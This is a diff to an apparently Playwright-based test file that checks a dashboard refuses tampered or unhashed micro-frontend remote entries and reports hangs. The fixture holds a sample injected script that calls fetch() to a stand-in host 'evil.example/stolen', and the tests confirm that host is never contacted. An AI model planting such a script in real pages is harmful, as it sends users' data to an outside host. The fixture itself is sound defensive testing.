@@ -1,11 +1,12 @@
 import type { Page, Route } from 'playwright-core';
 import { breakFiles, EXPECTED, hangFirst, nameManifestsAlone } from '../remotes/faults.ts';
 import { someOf } from '../../server/testing/long-run.ts';
-import { login } from '../support/account.ts';
 import { NEWEST_NOTICE } from '../support/college.ts';
+import { officeOf } from '../support/dashboard.ts';
 import { useSite, type Visit } from '../support/site.ts';
 
-const site = useSite();
+const site = useSite({}, { sharesPages: true });
+const office = officeOf(site);
 const EVIL = 'https://evil.example';
 const CODE = `globalThis.evil = true; fetch('${EVIL}/stolen').catch(() => undefined);`;
 const AWAY = 'দুঃখিত, এই অংশটি লোড করা যায়নি।';
@@ -93,7 +94,7 @@ it.each(firstOf(manifestAttacks))(
   async (_attack, change) => {
     await site.visit(options, async (visit) => {
       const { page } = visit;
-      await login(page);
+      await office.signIn(page);
       await nameManifestsAlone(page);
       await breakFiles(page, /\/remotes\/admin\/mf-manifest/, changed(change));
       await page.goto('/dashboard', { waitUntil: 'commit' });
@@ -126,7 +127,7 @@ it.each(
   async (_what, change) => {
     await site.visit(options, async (visit) => {
       const { page } = visit;
-      await login(page);
+      await office.signIn(page);
       await breakFiles(page, /\/(remotes\.json|dashboard)$/, changed(change));
       await page.goto('/dashboard', { waitUntil: 'commit' });
       await page
@@ -143,7 +144,7 @@ it.each(
 it('P5: a remote entry that hangs is reported within five seconds, the dashboard opens on a retry, and the evil origin has 0 hits', async () => {
   await site.visit(options, async (visit) => {
     const { page } = visit;
-    await login(page);
+    await office.signIn(page);
     await breakFiles(page, /\/remotes\/admin\/static\/remoteEntry/, hangFirst());
     await page.goto('/dashboard', { waitUntil: 'commit' });
     await page.getByRole('status').getByRole('button', { name: 'আবার চেষ্টা করুন' }).click();
@@ -155,16 +156,13 @@ it('P5: a remote entry that hangs is reported within five seconds, the dashboard
 it('P6: an entry of which no hash is known is not run, the dashboard says so, and the evil origin has 0 hits', async () => {
   await site.visit(options, async (visit) => {
     const { page, fetched } = visit;
-    await login(page);
+    await office.signIn(page);
     const withoutHash = changed((body) => body.replace(/,"integrity":"sha384-[^"]*"/g, ''));
     await breakFiles(page, /\/dashboard$/, withoutHash);
     await breakFiles(page, /\/remotes\.json/, withoutHash);
-    // What the login has set going ends here.
-    await page.goto('about:blank');
-    const before = fetched.length;
     await page.goto('/dashboard', { waitUntil: 'commit' });
     await inDashboard(page).waitFor();
-    expect(fetched.slice(before).filter(({ url }) => url.includes('remoteEntry'))).toEqual([]);
+    expect(fetched.filter(({ url }) => url.includes('remoteEntry'))).toEqual([]);
     await nothingEvil(visit);
   });
 });
